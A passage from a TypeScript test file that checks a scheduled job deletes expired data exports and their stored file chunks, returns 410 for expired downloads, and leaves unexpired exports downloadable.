    await runTaskNow(t, sql, "deleteExpiredExports");

    expect(await fileOf(expired.id)).toBeNull();
    expect(
      (await sql.query("select count(*)::int as n from stored_files where id = $1", [expiredFile])).rows[0].n,
    ).toBe(0);
    expect(
      (await sql.query("select count(*)::int as n from stored_file_chunks where file_id = $1", [expiredFile])).rows[0]
        .n,
    ).toBe(0);
    const after = (await t.request(GetExport, { id: expired.id }, o.token)).data!.export!;
    expect(after).toMatchObject({ status: "COMPLETED", downloadUrl: null, rowCount: 3 });
    expect((await download(t, `/exports/${expired.id}/download`, o.token)).status).toBe(410);
    // a file still in date is untouched
    expect(await fileOf(fresh.id)).not.toBeNull();
    expect((await download(t, fresh.downloadUrl!)).status).toBe(200);
  });
});
